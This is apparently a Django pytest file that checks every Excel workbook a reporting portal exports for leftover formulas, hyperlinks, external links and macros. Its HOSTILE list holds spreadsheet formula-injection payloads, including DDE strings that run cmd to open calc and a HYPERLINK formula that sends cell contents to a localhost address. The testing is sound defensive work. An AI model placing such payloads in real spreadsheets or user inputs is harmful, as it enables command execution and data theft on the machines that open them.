"""Whatever people wrote leaves as text: every workbook the portal gives is opened and its XML searched for formulas and links."""
import ast
import io
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from django.urls import get_resolver, reverse

from campaigns.services.plans import change_plan
from documents.models import IssuingBody
from jobs.models import Job
from jobs.runs import run_now
from lib.clock import now
from portal.tests.test_architecture import ROOT, imported, modules, tree_of
from portal.tests.workbook.samples import write_small
from portal.workbook.kinds import EXPORT
from portal.workbook.models import WorkbookImport
from portal.workbook.services import request_export, upload_workbook
from reports.services import compile_weekly_report, issue_report, make_copy_to_sign
from reports.tests.conftest import campaign, cut_off, files_apart, signer, week  # noqa: F401 (fixtures)
from reports.tests.recording import day
from units.models import Member, Unit

HOSTILE = [
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"bấm")', "+1+cmd|'/C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "http://127.0.0.1:9/a", "mailto:a@b.c",
    "internal:Sheet1!A1", "external:c:\\a.xlsx", "{=1+1}", "=cmd|' /C calc'!A0", "'=1+1", "1E5", "007", "\u202e=1+1", "＝1+1", "<f>1+1</f>",
]
_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture
def hostile(campaign, cast):  # noqa: F811
    """Every name, remark and place of the small committee begins as a formula does."""
    for number, unit in enumerate(Unit.objects.exclude(kind="committee").order_by("pk")):
        unit.name, unit.secretary_name = HOSTILE[number % len(HOSTILE)], HOSTILE[(number + 3) % len(HOSTILE)]
        unit.save(update_fields=["name", "secretary_name"])
    for number, member in enumerate(Member.objects.order_by("pk")):
        member.full_name = HOSTILE[number % len(HOSTILE)]
        member.save(update_fields=["full_name"])
    for number, duty in enumerate(campaign.duties.order_by("pk")):
        change_plan(duty=duty, version=0, by=cast.officer, at=now(), delay_reason=HOSTILE[number % len(HOSTILE)])
    IssuingBody.objects.update(place=HOSTILE[0][:60])
    return campaign


def texts_of(content):
    """All texts of a workbook; asserts that it holds no formula, no link, nothing fetched and nothing that runs."""
    texts = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            assert not any(part in name.lower() for part in ("externallink", "vbaproject", "embeddings", "connections", "querytable"))
            root = ElementTree.fromstring(archive.read(name))
            if name.startswith("xl/worksheets/sheet"):
                for tag in ("f", "hyperlink", "hyperlinks", "oleObject", "legacyDrawing", "dataValidation"):
                    assert root.find(f".//{_MAIN}{tag}") is None, (name, tag)
                # A text of a formula's result would be of this type.
                assert [cell for cell in root.iter(f"{_MAIN}c") if cell.get("t") == "str"] == []
            if name.endswith(".rels"):
                assert [row.get("Target") for row in root if row.get("TargetMode", "").lower() == "external"] == []
            if name == "xl/workbook.xml":
                assert [one.text for one in root.iter(f"{_MAIN}definedName") if "!" not in one.text] == []
            if name == "xl/sharedStrings.xml":
                texts += ["".join(one.itertext()) for one in root]
    return texts


def ways_out():
    """Addresses that give a workbook, by their names."""
    found = set()
    for name in _names(get_resolver(), ""):
        if "xlsx" in name or name.startswith("workbook:"):
            found.add(name)
    return found


def _names(resolver, before):
    for one in resolver.url_patterns:
        if hasattr(one, "url_patterns"):
            yield from _names(one, f"{before}{one.namespace}:" if one.namespace else before)
        elif one.name:
            yield before + one.name


_PAGES = {"home", "upload", "export_ready", "show", "confirm", "drop", "undo", "ledger"}


def test_every_workbook_that_leaves_holds_texts_alone(hostile, client, cast, week, cut_off, signer, tmp_path):  # noqa: F811
    client.force_login(cast.officer)
    report = compile_weekly_report(campaign=hostile, unit=hostile.unit, week=week, by=None, at=cut_off)

    def get(name, *arguments):
        return b"".join(client.get(reverse(name, args=arguments)))

    figure, line = "chua-to-chuc", "tong"
    given = {
        "reports:draft_xlsx": get("reports:draft_xlsx", report.pk),
        "reports:evidence_xlsx": get("reports:evidence_xlsx", report.pk, figure, line),
        "reports:campaign_evidence_xlsx": get("reports:campaign_evidence_xlsx", hostile.pk, figure, line),
        "campaigns:outstanding_xlsx": get("campaigns:outstanding_xlsx", hostile.pk),
        "workbook:template": get("workbook:template"),
        "workbook:export": client.post(reverse("workbook:export"), {"campaign": hostile.pk}).content,
    }
    copy = make_copy_to_sign(report=report, by=None, at=cut_off)
    given["reports:copy_xlsx"] = get("reports:copy_xlsx", copy.pk)
    copy.refresh_from_db()
    issued = issue_report(report=copy, number=7, issued_on=day(12), signer=signer, by=None, at=cut_off, version=copy.version)
    given["documents:xlsx"] = get("documents:xlsx", issued.document_id)
    job = request_export(campaign=hostile, unit=hostile.unit, by=cast.officer, at=now())
    run_now(Job.objects.get(pk=job.pk, kind=EXPORT))
    given["workbook:export_file"] = get("workbook:export_file", job.pk)
    given["workbook:bad_rows"] = get("workbook:bad_rows", _refused(tmp_path, cast, hostile).pk)

    assert {name for name in ways_out() if name.partition(":")[2] not in _PAGES} == set(given)
    texts = {name: texts_of(content) for name, content in given.items()}
    assert [name for name, said in texts.items() if name != "workbook:template" and not any(text.strip().startswith(("=", "+", "-", "@")) for text in said)] == []
    assert set(HOSTILE[:4]) <= set(texts["workbook:export"]) and HOSTILE[0] in texts["workbook:bad_rows"]


def _refused(tmp_path, cast, campaign):  # noqa: F811
    """A workbook with errors, sent and looked at."""
    def change(sheets):
        sheets["Đảng viên"] += [[f"00100{n}", text, "", "không có", "Chính thức", "", ""] for n, text in enumerate(HOSTILE)]
    path = write_small(tmp_path / "bad.xlsx", change)
    sent = upload_workbook(unit=campaign.unit, chunks=[Path(path).read_bytes()], name="=1+1.xlsx", by=cast.officer, at=now())
    run_now(Job.objects.get(key=f"workbook:{sent.pk}:look:1"))
    return WorkbookImport.objects.get(pk=sent.pk)


def test_workbooks_are_begun_in_one_place_and_cells_written_by_their_kind():
    """xlsxwriter's `write` guesses: formulas, links, numbers. Nobody else writes tables of any kind."""
    guessing = {"write", "write_row", "write_column", "write_formula", "write_array_formula", "write_dynamic_array_formula", "write_url", "write_rich_string"}
    begun, guessed = [], []
    for path in modules():
        name = str(path.relative_to(ROOT))
        if "xlsxwriter" in path.read_text() or "csv" in path.read_text() or "openpyxl" in path.read_text():
            begun += [name for node in ast.walk(tree_of(path)) if {"xlsxwriter", "csv", "openpyxl"} & {one.split(".")[0] for one in imported(node)}]
        if "lib.spreadsheet" in path.read_text():
            guessed += [
                f"{name}:{node.lineno}" for node in ast.walk(tree_of(path))
                if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in guessing - {"write"}
                or isinstance(node, ast.Call) and ast.unparse(node.func).endswith(("sheet.write", "_sheet.write"))
            ]
    assert (begun, guessed) == (["lib/spreadsheet/plain.py"], [])
